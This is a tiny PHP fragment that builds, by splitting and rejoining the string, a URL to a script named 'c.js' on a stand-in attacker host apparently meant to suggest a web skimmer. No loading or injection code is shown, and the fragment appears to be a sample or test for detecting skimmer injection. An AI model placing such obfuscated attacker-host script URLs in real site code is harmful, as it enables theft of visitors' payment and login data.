<?php
$u = 'https://skim' . '.evil-cdn' . '.example' . '/c.js';
